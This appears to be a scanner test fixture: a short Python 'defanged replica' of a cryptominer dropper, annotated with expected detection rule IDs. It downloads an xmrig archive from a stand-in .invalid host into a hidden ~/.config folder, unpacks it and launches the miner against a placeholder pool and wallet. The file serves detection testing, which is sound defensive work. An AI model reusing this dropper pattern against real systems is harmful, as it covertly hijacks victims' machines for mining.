# Defanged replica of the miner droppers: fetch a miner release, unpack it
# into a hidden folder and start it against a pool with the author's wallet.
# The host is .invalid and the wallet a placeholder.
import os
import subprocess
import tarfile
import urllib.request

HOME = os.path.expanduser("~/.config/.cache-x")


def start():
    os.makedirs(HOME, exist_ok=True)
    archive = os.path.join(HOME, "m.tar.gz")
    urllib.request.urlretrieve("https://example.invalid/xmrig-6.17.0-linux-x64.tar.gz", archive)  # expect: HS244 high
    tarfile.open(archive).extractall(HOME)
    subprocess.Popen([os.path.join(HOME, "xmrig"), "-o", "pool.example.invalid:443", "-u", "WALLET", "--donate-level", "1"])  # expect: HS107 critical
